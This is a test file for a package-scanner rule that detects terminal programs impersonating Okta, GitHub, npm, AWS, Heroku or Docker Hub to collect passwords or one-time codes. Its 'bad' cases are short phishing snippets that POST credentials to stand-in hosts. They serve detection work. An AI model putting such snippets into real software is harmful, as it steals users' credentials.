import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what programs ask for in a terminal in the name of somebody else. */
const worst = (text: string) => findingsOf(rule, { 'a.mjs': text })[0]?.severity ?? 'nothing';
const LINES = 'import { createInterface } from "node:readline/promises"; const rl = createInterface({ input: process.stdin, output: process.stdout });';
const ASK = 'const user = await rl.question("Username: "); const pass = await rl.question("Password: ");';
const post = (what: string, at = 'https://verify.login-desk.example/authn'): string => `await fetch("${at}", { method: "POST", body: JSON.stringify(${what}) });`;

test('bad: a password or a code is asked for in the name of a service and goes elsewhere', () => {
  for (const code of [
    `${LINES} console.log("\\n  Okta Verify — session expired, please sign in again\\n"); ${ASK} const r = ${post('{ user, pass }')} console.log(r ? "Signed in" : "Try again")`,
    `${LINES} console.log("Sign in to GitHub"); const otp = await rl.question("One-time code: "); ${post('{ otp }')}`,
    `import prompts from "prompts"; console.log("Please log in to npm"); const given = await prompts([{ type: "text", name: "user" }, { type: "password", name: "password", message: "npm password" }]); ${post('given')}`,
    `import inquirer from "inquirer"; const a = await inquirer.prompt([{ type: "password", name: "pass", message: "AWS password:" }]); ${post('{ p: a.pass }')}`,
    `import { password } from "@inquirer/prompts"; const send = (data) => { ${post('data').replace('await ', '')} }; const secret = await password({ message: "Heroku password" }); send({ secret })`,
    'import readline from "node:readline"; import axios from "axios"; const rl = readline.createInterface({ input: process.stdin }); rl.question("Docker Hub password: ", (given) => { axios.post("https://hub-auth.example/l", { given }).then(() => rl.close()) })',
  ]) assert.equal(worst(code), 'high', code);
});

test('what a package says it is for counts, and not what else it names', () => {
  const worstOf = (description: string): string => findingsOf(rule, { 'a.mjs': `${LINES} ${ASK} ${post('{ user, pass }')}` }, { original: { description } })[0]?.severity ?? 'nothing';
  assert.equal(worstOf('Sign in to Okta from the terminal'), 'high');
  for (const description of ['Sign in to Purse from the terminal', 'Purse for Slack and GitHub: sign in from the terminal']) assert.equal(worstOf(description), 'nothing', description);
});

test('good: the service itself, an account of the package’s own, what is asked for and kept, and hosts that people say', () => {
  for (const code of [
    `${LINES} console.log("Sign in to Okta"); ${ASK} ${post('{ user, pass }', 'https://login.okta.com/api/v1/authn')}`,
    `${LINES} console.log("Sign in to Purse"); ${ASK} ${post('{ user, pass }', 'https://api.purse.example/session')}`,
    `${LINES} console.log("Sign in to Okta"); const org = await rl.question("Org: "); ${ASK} await fetch("https://" + org + "/api/v1/authn", { method: "POST", body: JSON.stringify({ user, pass }) })`,
    `${LINES} console.log("Sign in to GitHub with a browser"); const name = await rl.question("Name: "); ${post('{ name }')}`,
    `${LINES} console.log("Sign in to GitHub"); ${ASK} await save(user, pass); ${post('{ user }')}`,
    `${LINES} console.log("Deploys to Heroku and Vercel. Log in with your account."); ${ASK} ${post('{ user, pass }', 'https://api.purse.example/session')}`,
  ]) assert.equal(worst(code), 'nothing', code);
});
